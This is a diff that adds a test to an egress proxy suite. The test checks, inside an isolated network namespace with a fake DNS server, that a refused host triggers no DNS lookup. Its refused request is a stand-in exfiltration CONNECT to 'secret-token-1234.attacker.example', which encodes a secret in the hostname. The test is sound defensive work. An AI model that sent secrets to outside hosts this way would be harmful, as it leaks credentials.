@@ -111,3 +111,48 @@ test('real HTTPS through bridge and proxy: curl verifies the certificate of the 
     dir.remove();
   }
 });
+
+// Runs in its own network namespace, where a fake DNS server on 127.0.0.1:53 is the
+// system resolver: the proxy uses its default resolver (getaddrinfo), as in production.
+const SYSTEM_DNS_DRIVER = (proxyModule: string, rulesModule: string, fixturesModule: string): string => `
+import { createSocket } from 'node:dgram';
+import { startProxy } from ${JSON.stringify(proxyModule)};
+import { parseHostRules } from ${JSON.stringify(rulesModule)};
+import { rawExchange } from ${JSON.stringify(fixturesModule)};
+const queries = [];
+const dns = createSocket('udp4');
+dns.on('message', (msg, rinfo) => {
+  let at = 12; const labels = [];
+  while (msg[at]) { labels.push(msg.subarray(at + 1, at + 1 + msg[at]).toString('latin1')); at += 1 + msg[at]; }
+  queries.push(labels.join('.'));
+  const reply = Buffer.from(msg.subarray(0, at + 5));
+  reply.writeUInt16BE(0x8183, 2);
+  dns.send(reply, rinfo.port, rinfo.address);
+});
+await new Promise((r) => dns.bind(53, '127.0.0.1', r));
+const proxy = await startProxy({ socketPath: process.argv[2], policy: { allow: parseHostRules(['allowed.test:443']) } });
+const refused = await rawExchange(process.argv[2], 'CONNECT secret-token-1234.attacker.example:443 HTTP/1.1\\r\\n\\r\\n');
+const refusedQueries = queries.length;
+const allowed = await rawExchange(process.argv[2], 'CONNECT allowed.test:443 HTTP/1.1\\r\\n\\r\\n');
+await proxy.close();
+dns.close();
+process.stdout.write(JSON.stringify({ refused: refused.split('\\r\\n')[0], refusedQueries, allowed: allowed.split('\\r\\n')[0], queries }));
+`;
+
+test('with the system resolver, a refused name sends no DNS query at all', async () => {
+  const dir = tempDir();
+  try {
+    const here = dirname(new URL(import.meta.url).pathname);
+    writeFileSync(join(dir.path, 'resolv.conf'), 'nameserver 127.0.0.1\noptions timeout:1 attempts:1\n');
+    writeFileSync(join(dir.path, 'driver.mjs'), SYSTEM_DNS_DRIVER(join(here, '../../../src/net/proxy.js'), join(here, '../../../src/net/host-rule.js'), join(here, 'fixtures.js')));
+    const r = spawnSync('bwrap', ['--unshare-net', '--die-with-parent', '--ro-bind', '/', '/', '--bind', dir.path, dir.path, '--ro-bind', join(dir.path, 'resolv.conf'), '/etc/resolv.conf', '--', process.execPath, join(dir.path, 'driver.mjs'), join(dir.path, 'proxy.sock')], { encoding: 'utf8', timeout: 20_000 });
+    assert.equal(r.status, 0, r.stderr);
+    const out = JSON.parse(r.stdout) as { refused: string; refusedQueries: number; allowed: string; queries: string[] };
+    assert.match(out.refused, /^HTTP\/1\.1 403 /);
+    assert.equal(out.refusedQueries, 0, 'no query for the refused name');
+    assert.match(out.allowed, /^HTTP\/1\.1 502 /, 'the allowed name was looked up and did not resolve');
+    assert.ok(out.queries.length > 0 && out.queries.every((q) => q.startsWith('allowed.test')), `queries: ${out.queries.join(', ')}`);
+  } finally {
+    dir.remove();
+  }
+});
